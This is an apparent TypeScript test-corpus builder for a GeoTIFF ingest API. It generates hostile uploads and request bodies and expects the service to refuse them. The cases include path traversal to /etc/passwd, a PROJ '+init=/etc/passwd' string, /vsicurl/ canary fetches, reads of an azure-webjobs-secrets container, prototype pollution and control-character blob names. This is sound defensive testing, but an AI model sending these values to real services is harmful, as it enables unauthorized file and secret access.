    attack: 'ENVI raw data with its .hdr sidecar next to it (the header is a second file)',
    files: [envi, local('scene.hdr')],
    expect: { outcome: 'job-failed', reason: /ENVI|GeoTIFF/i },
  });
  fileCase({
    id: 'pds-detached-label',
    category: 'format not allowed',
    attack: 'PDS3 detached label whose ^IMAGE pointer climbs to the sentinel file',
    files: [
      text(
        'label.lbl',
        `PDS_VERSION_ID = PDS3\r\nRECORD_TYPE = FIXED_LENGTH\r\nRECORD_BYTES = 256\r\n^IMAGE = ("${climbingPath(sentinelTif('pds-detached-label'))}", 1)\r\n` +
          `OBJECT = IMAGE\r\n  LINES = 64\r\n  LINE_SAMPLES = 64\r\n  SAMPLE_TYPE = PC_REAL\r\n  SAMPLE_BITS = 32\r\n  BANDS = 1\r\nEND_OBJECT = IMAGE\r\nEND\r\n`,
      ),
    ],
    expect: { outcome: 'job-failed', reason: /PDS|GeoTIFF/ },
  });

  // --- Sidecars next to the upload -----------------------------------------------------------
  const sidecarCase = (id: string, attack: string, tif: string, sidecars: Array<[string, string]>, expect: Expectation, options?: Record<string, unknown>): void => {
    const files: UploadedFile[] = [{ blobName: basename(tif), localPath: tif }, ...sidecars.map(([blobName, localPath]) => ({ blobName, localPath }))];
    fileCase({ id, category: 'sidecar', attack, files, expect, ...(options ? { options } : {}) });
  };
  const worldFile = '10\n0\n0\n-10\n500005\n5999995\n';
  const noGeoreferencing = /georeferenc|geotransform/i;

  const tfwTif = writePlainTiff(local('world.tif'), 64, 'none');
  sidecarCase('sidecar-tfw', 'a GeoTIFF without georeferencing next to a .tfw world file (and a .prj)', tfwTif, [
    ['world.tfw', text('world.tfw', worldFile)],
    ['world.prj', text('world.prj', utm33Wkt())],
  ], { outcome: 'job-failed', reason: noGeoreferencing });

  const wldTif = writePlainTiff(local('wld.tif'), 64, 'none');
  sidecarCase('sidecar-wld', 'a GeoTIFF without georeferencing next to a .wld world file', wldTif, [['wld.wld', text('wld.wld', worldFile)]], {
    outcome: 'job-failed',
    reason: noGeoreferencing,
  });

  const pamSrs = `<SRS dataAxisToSRSAxisMapping="1,2">${xmlEscape(utm33Wkt())}</SRS>`;
  const noCrsTif = writePlainTiff(local('no-crs.tif'), 64, 'no-crs');
  sidecarCase('sidecar-aux-xml-crs', 'a GeoTIFF with a geotransform but no CRS next to a .aux.xml that declares one', noCrsTif, [
    ['no-crs.tif.aux.xml', text('no-crs.tif.aux.xml', `<PAMDataset>\n  ${pamSrs}\n</PAMDataset>\n`)],
  ], { outcome: 'job-failed', reason: /coordinate reference system|CRS/i });

  const noGeoTif = writePlainTiff(local('no-georef.tif'), 64, 'none');
  sidecarCase('sidecar-aux-xml-georeferencing', 'a GeoTIFF without georeferencing next to a .aux.xml with CRS and geotransform', noGeoTif, [
    ['no-georef.tif.aux.xml', text('no-georef.tif.aux.xml', `<PAMDataset>\n  ${pamSrs}\n  <GeoTransform>${gridTransform}</GeoTransform>\n</PAMDataset>\n`)],
  ], { outcome: 'job-failed', reason: noGeoreferencing });

  const metadataTif = writePlainTiff(local('metadata.tif'), 64);
  sidecarCase(
    'sidecar-aux-xml-metadata',
    'a valid GeoTIFF next to a .aux.xml carrying sentinel metadata, statistics, nodata and scale',
    metadataTif,
    [
      [
        'metadata.tif.aux.xml',
        text(
          'metadata.tif.aux.xml',
          `<PAMDataset>\n  <Metadata><MDI key="HOSTILE">${sentinelMetadataToken}</MDI><MDI key="TIFFTAG_DATETIME">1999:01:01 00:00:00</MDI></Metadata>\n` +
            `  <PAMRasterBand band="1">\n    <Description>${sentinelMetadataToken}</Description>\n    <NoDataValue>${sentinelPixelValue}</NoDataValue>\n` +
            `    <UnitType>${sentinelMetadataToken}</UnitType>\n    <Metadata>\n      <MDI key="STATISTICS_MAXIMUM">${sentinelPixelValue}</MDI>\n` +
            `      <MDI key="STATISTICS_MEAN">${sentinelPixelValue}</MDI>\n      <MDI key="STATISTICS_MINIMUM">${sentinelPixelValue}</MDI>\n` +
            `      <MDI key="STATISTICS_STDDEV">0</MDI>\n      <MDI key="HOSTILE">${sentinelMetadataToken}</MDI>\n    </Metadata>\n  </PAMRasterBand>\n</PAMDataset>\n`,
        ),
      ],
      ['metadata.aux.xml', local('metadata.tif.aux.xml')],
    ],
    { outcome: 'job-completed-clean' },
  );

  // .ovr: external overviews (GDAL writes them next to a read-only dataset), then filled with the sentinel.
  const ovrTif = writePlainTiff(local('overviews.tif'), 256);
  const ovrSource = gdal.open(ovrTif, 'r');
  ovrSource.buildOverviews('NEAREST', [2, 4]);
  ovrSource.close();
  fillWithSentinel(`${ovrTif}.ovr`);
  sidecarCase('sidecar-ovr', 'a valid GeoTIFF next to a .ovr whose overview pixels are the sentinel', ovrTif, [['overviews.tif.ovr', `${ovrTif}.ovr`]], { outcome: 'job-completed-clean' }, {
    blockSize: 128,
  });

  // .msk: an external mask (GDAL writes it next to a read-only dataset) that hides the left half.
  const mskTif = writePlainTiff(local('masked.tif'), 64);
  const mskSource = gdal.open(mskTif, 'r');
  mskSource.bands.get(1).createMaskBand(maskFlags.perDataset);
  mskSource.close();
  const mask = gdal.open(`${mskTif}.msk`, 'r+');
  const maskPixels = new Uint8Array(64 * 64);
  for (let i = 0; i < maskPixels.length; i++) maskPixels[i] = i % 64 < 32 ? 0 : 255;
  mask.bands.get(1).pixels.write(0, 0, 64, 64, maskPixels);
  mask.close();
  sidecarCase('sidecar-msk', 'a valid GeoTIFF next to a .msk mask that would blank half of it', mskTif, [['masked.tif.msk', `${mskTif}.msk`]], {
    outcome: 'job-completed-clean',
    noMask: true,
  });

  // --- Bad request bodies --------------------------------------------------------------------
  const requestCase = (id: string, attack: string, body: unknown, expect: Expectation, endpoint: RequestCase['endpoint'] = '/api/jobs'): void => {
    cases.push({ kind: 'request', id, category: 'request', endpoint, attack, body: typeof body === 'string' ? body : JSON.stringify(body), expect });
  };
  const sourceRefused = (extra: Partial<Extract<Expectation, { outcome: 'http-400' }>> = {}): Expectation => ({ outcome: 'http-400', fields: ['source'], ...extra });
  const existing = `incoming/${folder}/sidecar-msk/masked.tif`;
  requestCase('source-container-not-allowed', 'a container outside INGEST_SOURCE_CONTAINERS', { source: 'stac/catalog.json' }, sourceRefused({ detailMentions: ['uploads', 'incoming'] }));
  requestCase('source-webjobs-container', "the host's own azure-webjobs-secrets container", { source: 'azure-webjobs-secrets/host.json' }, sourceRefused({ detailMentions: ['uploads', 'incoming'] }));
  requestCase('source-dot-dot', '`..` segments (the issue: answered 500)', { source: 'uploads/../../etc/passwd' }, sourceRefused());
  requestCase('source-dot-dot-inside', '`..` inside an allowed container', { source: `incoming/${folder}/../${folder}/sidecar-msk/masked.tif` }, sourceRefused());
  requestCase('source-dot', '`.` segment', { source: `incoming/./${folder}/sidecar-msk/masked.tif` }, sourceRefused());
  requestCase('source-empty-segment', 'empty segment a//b', { source: `incoming/${folder}//sidecar-msk/masked.tif` }, sourceRefused());
  requestCase('source-vsi-prefix', 'a /vsicurl/ name behind an empty segment', { source: `incoming//vsicurl/${canaryUrl('source-vsi-prefix', 'x.tif')}` }, sourceRefused());
  requestCase('source-leading-slash', 'leading /', { source: `/${existing}` }, sourceRefused());
  requestCase('source-nul', 'NUL (U+0000) in the blob name', { source: 'incoming/a\u0000.tif' }, sourceRefused());
  requestCase('source-newline', 'a newline (U+000A) in the blob name', { source: 'incoming/a\nb.tif' }, sourceRefused());
  requestCase('source-del', 'DEL (U+007F) in the blob name', { source: 'incoming/a\u007fb.tif' }, sourceRefused());
  requestCase('source-backslash', 'backslash in the blob name', { source: 'incoming/a\\..\\..\\etc\\passwd' }, sourceRefused());
  requestCase('source-name-too-long', 'blob name of 1025 characters', { source: `incoming/${'a'.repeat(1025)}` }, sourceRefused());
  requestCase('source-too-many-segments', '255 path segments', { source: `incoming/${Array.from({ length: 255 }, () => 'a').join('/')}` }, sourceRefused());
  requestCase('source-container-uppercase', 'container name not valid for Azure (upper case)', { source: 'Incoming/a.tif' }, sourceRefused());
  requestCase('source-container-double-hyphen', 'container name not valid for Azure (double hyphen)', { source: 'in--coming/a.tif' }, sourceRefused());
  requestCase('source-not-a-string', 'source of the wrong type', { source: ['incoming/a.tif'] }, sourceRefused());
  requestCase('body-array', 'a JSON body that is an array', [{ source: existing }], { outcome: 'http-400' });
  requestCase('body-string', 'a JSON body that is a string', JSON.stringify(existing), { outcome: 'http-400' });
  requestCase('body-null', 'a JSON body that is null', 'null', { outcome: 'http-400' });
  requestCase('body-not-json', 'a body that is not JSON', '{"source": "incoming/a.tif"', { outcome: 'http-400' });
  requestCase('body-huge', 'a 3 MB body', { source: `incoming/${'a/'.repeat(1_500_000)}x.tif` }, { outcome: 'http-400', statuses: [400, 413] });
  requestCase('body-unknown-field', 'an unknown field naming a URL', { source: existing, sourceUrl: canaryUrl('body-unknown-field', 'x.tif') }, { outcome: 'http-400' });
  requestCase('body-unknown-option', 'an unknown option passing GDAL configuration', { source: existing, options: { gdalConfig: { GDAL_HTTP_PROXY: canaryUrl('body-unknown-option', '') } } }, { outcome: 'http-400' });
  requestCase('body-proto-pollution', '__proto__ in the body', `{"source": ${JSON.stringify(existing)}, "__proto__": {"polluted": true}}`, { outcome: 'http-400' });
  requestCase('collection-traversal', 'a collection id with ../', { source: existing, collection: '../stac' }, { outcome: 'http-400', fields: ['collection'] });
  requestCase('target-crs-proj-string', 'a targetCrs that is a PROJ string with +init=/etc/passwd', { source: existing, options: { targetCrs: '+init=/etc/passwd:x' } }, { outcome: 'http-400', fields: ['options.targetCrs'] });
  requestCase('source-missing-blob', 'a well-formed source that does not exist', { source: `incoming/${folder}/does-not-exist.tif` }, { outcome: 'http-404' });

  // The batch API takes a prefix or a manifest: the same rules for both.
  const batchCase = (id: string, attack: string, body: unknown, expect: Expectation): void => requestCase(id, attack, body, expect, '/api/batches');
  const manifestRefused = (extra: Partial<Extract<Expectation, { outcome: 'http-400' }>> = {}): Expectation => ({ outcome: 'http-400', fields: ['manifest'], ...extra });
  batchCase('batch-prefix-container-not-allowed', 'a batch over a container outside INGEST_SOURCE_CONTAINERS', { source: 'stac/' }, sourceRefused({ detailMentions: ['uploads', 'incoming'] }));
  batchCase('batch-prefix-webjobs', "a batch over the host's azure-webjobs-secrets container", { source: 'azure-webjobs-secrets/' }, sourceRefused());
  batchCase('batch-prefix-dot-dot', 'a batch prefix with `..`', { source: `incoming/${folder}/../../` }, sourceRefused());
  batchCase('batch-prefix-control', 'a batch prefix with a control character', { source: 'incoming/a\u0001/' }, sourceRefused());
  batchCase('batch-manifest-container-not-allowed', 'a manifest in a container outside the allowed ones', { manifest: 'azure-webjobs-hosts/list.txt' }, manifestRefused({ detailMentions: ['uploads', 'incoming'] }));
  batchCase('batch-manifest-dot-dot', 'a manifest path with `..`', { manifest: `incoming/${folder}/../list.txt` }, manifestRefused());
  batchCase('batch-both', 'a prefix and a manifest at once', { source: 'incoming/', manifest: 'incoming/list.txt' }, { outcome: 'http-400' });
  batchCase('batch-unknown-field', 'an unknown field naming a URL', { source: 'incoming/', manifestUrl: canaryUrl('batch-unknown-field', 'list.txt') }, { outcome: 'http-400' });
  batchCase('batch-huge-glob', 'an include glob of 10,000 characters', { source: 'incoming/', include: `${'{a,'.repeat(3000)}b` }, { outcome: 'http-400', fields: ['include'] });
  batchCase('batch-limit-negative', 'a negative limit', { source: 'incoming/', limit: -1 }, { outcome: 'http-400', fields: ['limit'] });
  batchCase('batch-collection-traversal', 'a collection id with ../', { source: 'incoming/', collection: '../stac' }, { outcome: 'http-400', fields: ['collection'] });
  batchCase('batch-missing-prefix', 'a prefix with no blobs', { source: `incoming/${folder}/nothing-here/` }, { outcome: 'http-404' });

  runPython(python, pythonJobs, notes);

  // --- Issue 18: CRSs, declared sizes, inspection limits, request fields, metadata ranges ------
  const homeDir = join(sentinelDir, 'home');
  const userDataDir = join(sentinelDir, 'user-data');
  mkdirSync(join(homeDir, '~'), { recursive: true });
  mkdirSync(join(userDataDir, 'proj'), { recursive: true });
  const fifos: string[] = [];
  const context: CorpusContext = {
    folder,
    canaryUrl,
    canaryPort: Number(new URL(canary).port),
    caseFile: (caseId, name) => {
      mkdirSync(join(filesDir, caseId), { recursive: true });
      return join(filesDir, caseId, name);
    },
    sentinelFolder,
    homeDir,
    userDataDir,
    fifos,
    notes,
    fileCase,
    addCase: (entry) => void cases.push(entry),
  };
  writeCrsCases(context);
  writeSizeCases(context);
  writeHdf5Cases(context);
  writeMetadataCases(context);
  writeRequestCases(context);
  writeVariableCases(context);

  return {
    root,
    sentinel: { root: sentinelDir, folderOf: (caseId: string) => join(sentinelDir, caseId) },
    notes,
    cases,
    hostEnvironment: {
      PROJ_NETWORK: 'ON',
      PROJ_NETWORK_ENDPOINT: `${canary}/proj-cdn`,
      HOME: homeDir,
      XDG_DATA_HOME: userDataDir,
    },
    releaseFifos: (paths = fifos) => paths.filter(releaseFifo),
    remove: () => {
      // A reader still blocked on a pipe would keep its process (the host) from ever stopping.
      fifos.forEach(releaseFifo);
      rmSync(root, { recursive: true, force: true });
    },
  };
}

/** Opens a named pipe for writing without blocking: succeeds (and lets a blocked reader go on) only when someone has it open for reading. */
function releaseFifo(path: string): boolean {
  try {
    closeSync(openSync(path, constants.O_WRONLY | constants.O_NONBLOCK));
    return true;
  } catch {
    return false; // ENXIO: no reader; ENOENT: removed
  }
}

function fillWithSentinel(path: string): void {
  const dataset = gdal.open(path, 'r+');
  for (let b = 1; b <= dataset.bands.count(); b++) {
    const band = dataset.bands.get(b);
    const { x, y } = band.size;
    band.pixels.write(0, 0, x, y, new Float32Array(x * y).fill(sentinelPixelValue));
  }
  dataset.close();
}

function runPython(python: string | undefined, jobs: PythonJob[], notes: string[]): void {
  const interpreter = python ?? 'python3';
  try {
    execFileSync(interpreter, ['-c', pythonWriter, JSON.stringify(python ? jobs : jobs.filter((job) => job.kind === 'zip'))], { stdio: ['ignore', 'ignore', 'pipe'] });
  } catch (error) {
    notes.push(`python writer failed: ${(error as Error).message}`);
    throw error;
  }
}
